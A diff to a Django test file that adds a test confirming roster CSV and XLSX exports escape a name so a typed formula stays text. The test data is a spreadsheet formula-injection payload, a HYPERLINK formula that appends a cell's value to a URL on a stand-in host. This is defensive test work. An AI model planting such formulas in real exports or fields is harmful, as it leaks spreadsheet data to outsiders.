@@ -470,3 +470,18 @@ def test_xlsx_export_masks_and_scopes(roster_world, client_for):
 def test_export_unknown_format_404(world, client_for):
     client = client_for(world.station_staff.user)
     assert client.get("/certs/roster/export.pdf").status_code == 404
+
+
+@pytest.mark.django_db
+def test_exports_never_write_a_formula(roster_world, client_for):
+    """A name typed in the admin as =HYPERLINK(…) stays text in both exports."""
+    w = roster_world
+    w.trainee.name = '=HYPERLINK("http://x/?"&B2,"张三")'
+    w.trainee.save()
+    client = client_for(w.station_staff.user)
+    rows = _csv(client.get(reverse("certs-roster-export", args=["csv"])))
+    assert "'" + w.trainee.name in {row[0] for row in rows}
+    response = client.get(reverse("certs-roster-export", args=["xlsx"]))
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    names = {row[0] for row in book.active.iter_rows(values_only=True)}
+    assert "'" + w.trainee.name in names
